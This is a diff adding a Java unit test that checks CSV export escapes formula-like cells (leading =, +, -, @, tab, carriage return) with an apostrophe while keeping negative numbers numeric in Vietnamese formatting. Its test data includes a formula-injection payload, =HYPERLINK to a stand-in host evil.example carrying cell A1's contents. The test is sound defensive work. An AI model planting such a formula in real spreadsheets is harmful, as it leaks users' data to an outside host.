@@ -39,6 +39,32 @@ class WorkbooksTest {
     }
 
     @Test
+    void textThatASpreadsheetWouldTakeForAFormulaIsNeutralisedButNegativeNumbersStayNumbers() {
+        Table table = Table.named("Kế hoạch", "KẾ HOẠCH")
+                .column("=Tiêu đề", Table.Type.TEXT).column("Số lượt", Table.Type.COUNT)
+                .column("Đã chi (đồng)", Table.Type.MONEY).column("Tỷ lệ (%)", Table.Type.PERCENT)
+                .row("=HYPERLINK(\"http://evil.example/?\"&A1;\"Kế hoạch\")", -1_500L, -6_889_000L, new BigDecimal("-2.5"))
+                .row("+1+1", 0L, 0L, null)
+                .row("-2+3", null, null, null)
+                .row("@SUM(1+1)", null, null, null)
+                .row("\t=1+1", null, null, null)
+                .row("\r=1+1", null, null, null)
+                .row("Kế hoạch = 2023", null, null, null)
+                .build();
+
+        String csv = new String(Workbooks.csv(table), StandardCharsets.UTF_8).substring(1);
+        assertThat(csv.split("\r\n")).containsExactly(
+                "\"'=Tiêu đề\";Số lượt;Đã chi (đồng);Tỷ lệ (%)",
+                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Kế hoạch\"\")\";-1.500;-6.889.000;-2,5",
+                "\"'+1+1\";0;0;",
+                "\"'-2+3\";;;",
+                "\"'@SUM(1+1)\";;;",
+                "\"'\t=1+1\";;;",
+                "\"'\r=1+1\";;;",
+                "Kế hoạch = 2023;;;");
+    }
+
+    @Test
     void theWorkbookKeepsNumbersAsNumbersFormattedForAVietnameseSpreadsheet() throws Exception {
         try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(Workbooks.xlsx(List.of(table()))))) {
             Sheet sheet = workbook.getSheet("Kinh phí");
